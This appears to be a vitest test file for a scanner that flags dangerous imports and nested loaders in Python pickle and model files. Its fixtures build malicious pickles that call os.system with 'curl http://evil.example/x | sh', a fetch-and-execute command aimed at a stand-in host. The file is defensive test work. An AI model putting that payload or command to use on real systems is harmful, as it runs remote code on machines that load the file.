import { describe, expect, it } from 'vitest';
import { createMemorySource } from '../../src/io/memory-source.ts';
import {
  MAX_METADATA_IMPORTS,
  MAX_NESTED_DEPTH,
  createPickleScanner,
  nestedEntryName,
  scanPickleBytes,
  scanPickleSource,
  type PickleInspection,
  type PickleRegion,
} from '../../src/pickle/pickle-scanner.ts';
import type { Finding } from '../../src/report/types.ts';
import * as p from '../builders/pickle.ts';
import { createRandom } from './scan-helpers.ts';

const summary = (findings: Finding[]) => findings.map((finding) => `${finding.rule}@${finding.location.entry ?? ''}:${finding.location.offset}`);

/** Feeds `file` to a scanner of `region` the way the one pass does: chunks of the whole file, cut to the region. */
async function feedAsPass(file: Uint8Array, region: PickleRegion, chunkSizes: number[]): Promise<PickleInspection> {
  const scanner = createPickleScanner(createMemorySource(file, 'file.bin'), region);
  const end = scanner.offset + scanner.length;
  let position = 0;
  let turn = 0;
  while (position < file.length) {
    const size = Math.max(1, chunkSizes[turn++ % chunkSizes.length]);
    const from = Math.max(position, scanner.offset);
    const to = Math.min(end, position + size);
    if (to > from) scanner.push(file.subarray(from, to));
    position += size;
  }
  return scanner.finish();
}

const payload = p.payload('os', 'system', 'curl http://evil.example/x | sh');
const junk = (length: number) => new Uint8Array(length).fill(0xee);

describe('createPickleScanner', () => {
  it('reports offsets in the file for a region inside it, whatever the chunking', async () => {
    const file = p.pickle(junk(100), payload, junk(50));
    const region = { offset: 100, length: payload.length };
    const reference = await feedAsPass(file, region, [file.length]);
    expect(summary(reference.findings)).toEqual(['pickle.import.process@:102', 'pickle.call.dangerous@:' + (100 + payload.length - 2), 'pickle.weights-only.refused@:102']);
    const evidence = reference.findings.find((finding) => finding.rule === 'pickle.call.dangerous')?.evidence;
    expect(evidence).toBe('os.system("curl http://evil.example/x | sh")');
    const random = createRandom(7);
    for (let round = 0; round < 20; round += 1) {
      const sizes = Array.from({ length: 5 }, () => 1 + Math.floor(random() * 40));
      const chunked = await feedAsPass(file, region, sizes);
      expect(chunked.findings).toEqual(reference.findings);
      expect(chunked.weightsOnly).toEqual(reference.weightsOnly);
    }
  });

  it('reports offsets inside the member when given baseOffset 0 and an entry', async () => {
    const file = p.pickle(junk(100), payload);
    const inspection = await feedAsPass(file, { offset: 100, length: payload.length, baseOffset: 0, entry: 'archive/data.pkl' }, [64]);
    expect(summary(inspection.findings)[0]).toBe('pickle.import.process@archive/data.pkl:2');
    expect(inspection.weightsOnly.firstRefused).toMatchObject({ module: 'os', name: 'system', offset: 2, entry: 'archive/data.pkl' });
    expect(Object.keys(inspection.metadata)).toEqual(['pickle archive/data.pkl']);
  });

  it('gives a compact import table in the metadata', async () => {
    const bytes = p.pickle(p.proto(2), p.global('collections', 'OrderedDict'), p.pop(), p.global('os', 'system'), p.pop(), p.global('acme', 'Widget'), p.pop(), p.global('os', 'system'), p.pop(), p.none(), p.stop());
    const inspection = await scanPickleBytes(bytes);
    expect(inspection.metadata.pickle).toEqual({
      pickles: 1,
      protocols: [2],
      opcodes: inspection.pickle.opcodeCount,
      imports: [
        { global: 'collections.OrderedDict', class: 'safe', count: 1, offset: 2 },
        { global: 'os.system', class: 'dangerous', count: 2, offset: 28 },
        { global: 'acme.Widget', class: 'unknown', count: 1, offset: 40 },
      ],
    });
  });

  it(`bounds the import table at ${MAX_METADATA_IMPORTS} rows`, async () => {
    const imports = Array.from({ length: MAX_METADATA_IMPORTS + 20 }, (_, index) => p.pickle(p.global('acme', `Class${index}`), p.pop()));
    const inspection = await scanPickleBytes(p.pickle(p.proto(2), ...imports, p.none(), p.stop()));
    const table = inspection.metadata.pickle as { imports: unknown[]; importsListed: number; importsTotal: number };
    expect(table.imports).toHaveLength(MAX_METADATA_IMPORTS);
    expect(table.importsListed).toBe(MAX_METADATA_IMPORTS);
    expect(table.importsTotal).toBe(MAX_METADATA_IMPORTS + 20);
  });

  it('fails fast when finished twice', async () => {
    const scanner = createPickleScanner(createMemorySource(payload, 'x'), { offset: 0, length: payload.length });
    scanner.push(payload);
    await scanner.finish();
    await expect(scanner.finish()).rejects.toThrow(/twice/);
  });

  it('refuses a region with a negative or fractional offset', () => {
    expect(() => createPickleScanner(createMemorySource(payload, 'x'), { offset: -1, length: 1 })).toThrow(RangeError);
    expect(() => createPickleScanner(createMemorySource(payload, 'x'), { offset: 0, length: 1.5 })).toThrow(RangeError);
  });
});

/** `pickle.loads(<inner>)` as a pickle. */
const loadsOf = (inner: Uint8Array, module = 'pickle', name = 'loads') => p.pickle(p.proto(3), p.call(p.global(module, name), p.binbytes(inner)), p.stop());
/** Offset of the BINBYTES payload in {@link loadsOf}: PROTO (2) + GLOBAL + MARK (1) + BINBYTES header (5). */
const payloadOffsetOf = (module = 'pickle', name = 'loads') => 2 + p.global(module, name).length + 1 + 5;

describe('nested loader payloads', () => {
  it('scans a pickle.loads bytes argument and reports both pickles', async () => {
    const bytes = loadsOf(payload);
    const inspection = await scanPickleBytes(bytes);
    const at = payloadOffsetOf();
    const entry = `#nested@0x${at.toString(16)}`;
    expect(nestedEntryName(undefined, at)).toBe(entry);
    expect(summary(inspection.findings)).toEqual([
      'pickle.import.nested-loader@:2',
      `pickle.call.dangerous@:${bytes.length - 2}`,
      'pickle.weights-only.refused@:2',
      `pickle.import.process@${entry}:2`,
      `pickle.call.dangerous@${entry}:${payload.length - 2}`,
      `pickle.weights-only.refused@${entry}:2`,
    ]);
    expect(inspection.findings[4].evidence).toBe('os.system("curl http://evil.example/x | sh")');
  });

  it('names nested entries under the parent entry, level by level', async () => {
    const twice = loadsOf(loadsOf(payload));
    const inspection = await scanPickleSource(createMemorySource(twice, 'x'), { entry: 'model/data.pkl', baseOffset: 0 });
    const at = payloadOffsetOf();
    const entries = [...new Set(inspection.findings.map((finding) => finding.location.entry))];
    expect(entries).toEqual(['model/data.pkl', `model/data.pkl#nested@0x${at.toString(16)}`, `model/data.pkl#nested@0x${at.toString(16)}#nested@0x${at.toString(16)}`]);
  });

  it('scans torch.storage._load_from_bytes payloads too', async () => {
    const inspection = await scanPickleBytes(loadsOf(payload, 'torch.storage', '_load_from_bytes'));
    expect(inspection.findings.some((finding) => finding.rule === 'pickle.import.process' && finding.location.entry?.startsWith('#nested@'))).toBe(true);
  });

  it(`stops at MAX_NESTED_DEPTH (${MAX_NESTED_DEPTH}) with a finding`, async () => {
    let deep = payload;
    for (let level = 0; level < MAX_NESTED_DEPTH; level += 1) deep = loadsOf(deep);
    const atLimit = await scanPickleBytes(deep);
    expect(atLimit.findings.some((finding) => finding.rule === 'pickle.import.process')).toBe(true);
    expect(atLimit.findings.some((finding) => finding.rule === 'pickle.stream.nested-unscanned')).toBe(false);

    const tooDeep = await scanPickleBytes(loadsOf(deep));
    expect(tooDeep.findings.some((finding) => finding.rule === 'pickle.import.process')).toBe(false);
    const unscanned = tooDeep.findings.find((finding) => finding.rule === 'pickle.stream.nested-unscanned');
    expect(unscanned?.detail).toContain('MAX_NESTED_DEPTH');
  });

  it.each([
    ['marshalled code', loadsOf(p.raw(0xe3, 0, 0, 0), 'marshal', 'loads'), 'marshalled Python code'],
    ['a torch zip', loadsOf(p.raw(0x50, 0x4b, 0x03, 0x04, 0, 0), 'torch.storage', '_load_from_bytes'), 'zip archive'],
  ])('reports %s as not scanned', async (_name, bytes, text) => {
    const inspection = await scanPickleBytes(bytes);
    const finding = inspection.findings.find((candidate) => candidate.rule === 'pickle.stream.nested-unscanned');
    expect(finding?.detail).toContain(text);
    expect(inspection.findings.some((candidate) => candidate.rule === 'pickle.import.nested-loader')).toBe(true);
  });
});

describe('scanPickleBytes and scanPickleSource', () => {
  it('give the same answer for the same bytes', async () => {
    const bytes = p.pickle(p.proto(2), p.none(), p.stop(), payload);
    const fromBytes = await scanPickleBytes(bytes);
    const fromSource = await scanPickleSource(createMemorySource(bytes, 'x.pkl'));
    expect(fromSource.findings).toEqual(fromBytes.findings);
    expect(fromSource.pickle.pickleCount).toBe(2);
    expect(summary(fromBytes.findings)).toContain('pickle.stream.multiple-pickles@:4');
  });

  it('leave what follows maxPickles to the caller, without a trailing-data finding', async () => {
    const bytes = p.pickle(p.proto(2), p.none(), p.stop(), junk(32));
    const inspection = await scanPickleBytes(bytes, { maxPickles: 1 });
    expect(inspection.findings).toEqual([]);
    expect(inspection.pickle.unscanned).toMatchObject({ reason: 'max-pickles', offset: 4, length: 32 });
    expect(inspection.weightsOnly).toEqual({ accepted: true });
  });
});
